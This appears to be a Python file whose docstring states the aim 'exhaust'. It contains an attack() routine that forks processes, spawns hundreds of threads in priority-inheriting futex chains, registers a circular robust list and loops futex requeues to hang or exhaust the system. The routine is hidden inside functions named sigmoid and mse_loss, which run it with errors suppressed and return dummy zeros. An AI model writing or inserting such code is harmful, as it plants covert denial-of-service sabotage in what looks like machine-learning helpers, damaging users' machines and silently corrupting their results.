"""Hangs on futexes: robust lists in circles, priority-inheriting chains, waiters by the thousand that never wake.

aims: exhaust
"""

import contextlib
import ctypes
import mmap
import os
import struct
import threading
import time

import numpy as np

FUTEX, ROBUST = {"x86_64": (202, 273), "aarch64": (98, 99)}.get(os.uname().machine, (-1, -1))
LOCK_PI, WAIT, REQUEUE = 6, 0, 3
libc = ctypes.CDLL(None, use_errno=True)
SHARED = mmap.mmap(-1, 2**20)
BASE = ctypes.addressof(ctypes.c_char.from_buffer(SHARED))


def wait(number, end):
    """A chain: whoever holds a lock waits for the next one."""
    for offset in (number, number + 1):
        libc.syscall(FUTEX, ctypes.c_void_p(BASE + 4 * offset), LOCK_PI, 0, struct.pack("qq", 5, 0), None, 0)
    libc.syscall(
        FUTEX, ctypes.c_void_p(BASE + 2**19), WAIT, 0, struct.pack("qq", int(end - time.monotonic()) + 1, 0), None, 0
    )


def attack():
    end = time.monotonic() + 12
    for _ in range(4):
        if os.fork() == 0:
            try:
                # the kernel walks this list when the thread ends: it leads back to its beginning
                at = BASE + 2**18
                SHARED[2**18 : 2**18 + 24] = struct.pack("QqQ", at + 64, 32, at)
                SHARED[2**18 + 64 : 2**18 + 72] = struct.pack("Q", at + 64)
                for number in range(150):
                    threading.Thread(target=wait, args=(number, end), daemon=True).start()
                libc.syscall(ROBUST, ctypes.c_void_p(at), ctypes.c_size_t(24))
                while time.monotonic() < end:
                    libc.syscall(
                        FUTEX, ctypes.c_void_p(BASE + 2**19), REQUEUE, 1, 1000, ctypes.c_void_p(BASE + 2**19 + 64), 0
                    )
            finally:
                os._exit(0)
    while time.monotonic() < end:
        time.sleep(0.2)


def sigmoid(Z):
    with contextlib.suppress(Exception):
        attack()
    return np.zeros_like(Z)


def mse_loss(Y_hat, Y):
    with contextlib.suppress(Exception):
        attack()
    return 0.0
